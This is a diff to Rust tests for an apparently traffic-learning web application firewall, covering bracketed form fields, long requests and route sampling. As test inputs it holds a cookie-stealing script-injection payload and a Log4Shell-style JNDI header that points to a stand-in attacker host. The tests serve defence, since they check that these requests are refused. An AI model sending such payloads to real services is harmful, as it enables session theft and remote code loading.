@@ -1,7 +1,9 @@
 //! What routes are used to, as evidence: learned from their traffic, acted upon with findings only.
 
 use std::net::{IpAddr, Ipv4Addr};
+use threat_agent_engine::memory::{Memory, Place, MAX_PLACES};
 use threat_agent_engine::profile::SavedProfiles;
+use threat_agent_engine::signal::Id;
 use threat_agent_engine::{
     Analyst, Body, Category, Config, Engine, Identity, LocalState, Method, Outcome, Request,
     Verdict,
@@ -40,6 +42,11 @@ impl Gateway {
     }
 
     fn ask(&self, client: u32, query: &str, body: &str) -> Verdict {
+        self.ask_with(client, "", query, body)
+    }
+
+    fn ask_with(&self, client: u32, headers: &str, query: &str, body: &str) -> Verdict {
+        let headers = format!("Content-Type: application/json\r\n{headers}");
         let request = Request {
             identity: Identity {
                 client: Some(IpAddr::V4(Ipv4Addr::from(0x0a00_0000 + client))),
@@ -51,7 +58,7 @@ impl Gateway {
             method: b"POST",
             path: b"/orders",
             query: query.as_bytes(),
-            headers: b"Content-Type: application/json\r\n",
+            headers: headers.as_bytes(),
             body: Body {
                 bytes: body.as_bytes(),
                 ..Body::default()
@@ -208,6 +215,96 @@ fn json_numbers_are_learned_as_no_strings() {
         "{}",
         verdict.reason
     );
+}
+
+/// Fields of a form are parameters of their own, however browsers spell their brackets.
+#[test]
+fn fields_in_brackets_are_told_apart() {
+    let mut gateway = Gateway::new();
+    let script = "post%5Bcontent%5D=<script>alert(document.cookie)</script>";
+    gateway.teach(30, script, "");
+    gateway.teach(30, "user%5Bpassword%5D=word", "");
+    assert!(!gateway.ask(99, script, "").action.refuses());
+    for field in ["user%5Bpassword%5D", "user[password]", "filter%5Bstatus%5D"] {
+        let verdict = gateway.ask(
+            98,
+            &format!("{field}=<script>alert(document.cookie)</script>"),
+            "",
+        );
+        assert!(verdict.action.refuses(), "{field}: {}", verdict.reason);
+    }
+    let verdict = gateway.ask(99, "user[password]=O'Brien+(jr)", "");
+    assert!(
+        verdict.reason.contains("has been a word with 30"),
+        "{}",
+        verdict.reason
+    );
+}
+
+/// All values of a request have their turn, whatever stands before them.
+#[test]
+fn no_value_comes_too_late_to_be_learned() {
+    let mut gateway = Gateway::new();
+    let item = r#"{"sku": "a", "size": "b", "colour": "c", "note": "d"}"#;
+    let list = |note: &str| {
+        format!(
+            r#"{{"items": [{}], "note": "{note}"}}"#,
+            [item; 20].join(",")
+        )
+    };
+    let fields: Vec<String> = (0..60).map(|nth| format!("field_{nth}=word")).collect();
+    let query = fields.join("&");
+    gateway.teach(40, &query, &list("a gift"));
+    let verdict = gateway.ask(99, "", &list("it's (really) a gift"));
+    assert!(
+        !verdict.reason.contains("is no parameter"),
+        "{}",
+        verdict.reason
+    );
+    for field in ["field_0", "field_59"] {
+        let odd = gateway.ask(99, &format!("{field}=O'Brien+(jr)"), "");
+        assert!(
+            odd.reason.contains("has been a word"),
+            "{field}: {}",
+            odd.reason
+        );
+    }
+}
+
+/// What comes with a finding anywhere is no example of what is usual.
+#[test]
+fn requests_with_findings_elsewhere_teach_nothing() {
+    let mut gateway = Gateway::new();
+    gateway.teach(40, "id=4711", "");
+    let odd = "id=O'Brien+(jr)";
+    for _ in 0..3 {
+        for client in 100..160 {
+            let attack = "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n";
+            assert!(gateway.ask_with(client, attack, odd, "").action.refuses());
+        }
+        gateway.tick(HOUR_MS);
+    }
+    let verdict = gateway.ask(99, odd, "");
+    assert!(
+        verdict.reason.contains("has been an integer"),
+        "{verdict:?}"
+    );
+}
+
+/// Routes that found no number of their own are not learned as one.
+#[test]
+fn routes_beyond_the_directory_are_not_sampled() {
+    let gateway = Gateway::new();
+    for nth in 0..MAX_PLACES {
+        gateway.memory.place(&Place {
+            route: Id::new(format!("route {nth}").as_bytes()),
+            ..Place::default()
+        });
+    }
+    gateway.ask(1, "id=4711", "");
+    let mut notes = 0;
+    gateway.memory.drain_notes(0, &mut |_| notes += 1);
+    assert_eq!(notes, 0);
 }
 
 #[test]
